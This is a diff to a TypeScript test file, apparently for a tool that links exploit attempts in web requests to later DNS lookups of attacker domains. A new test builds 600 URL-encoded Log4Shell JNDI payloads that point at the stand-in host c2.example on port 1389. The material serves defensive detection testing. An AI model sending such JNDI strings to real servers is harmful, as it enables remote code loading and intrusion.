@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { Attempt } from '../../../src/correlate/after/exploits.ts';
+import { range } from '../../support/contacts.ts';
 import { asked, type AskedSpec } from './asked.ts';
 
 const ATTACKER = '203.0.113.9';
@@ -45,4 +46,9 @@ test('names beneath one of two labels, and names in what is no attack: nothing',
   assert.deepEqual(called([short, lookup('www.c2.example', 2)]), []);
   assert.equal(called([short, lookup('c2.example', 2)]).length, 1);
   assert.deepEqual(called([attack('/?u=http://b81c.c2.example/'), lookup('b81c.c2.example', 2)]), []);
+});
+
+test('names of attacks before, however many, hide none', () => {
+  const others = [...range(600)].map((n) => attack(`/?x=$%7Bjndi:ldap:%2F%2Fa${n}.c2.example:1389%2Fa%7D`));
+  assert.deepEqual(called([...others, LOOKUP, lookup('b81c.c2.example', 2)]), TOLD);
 });
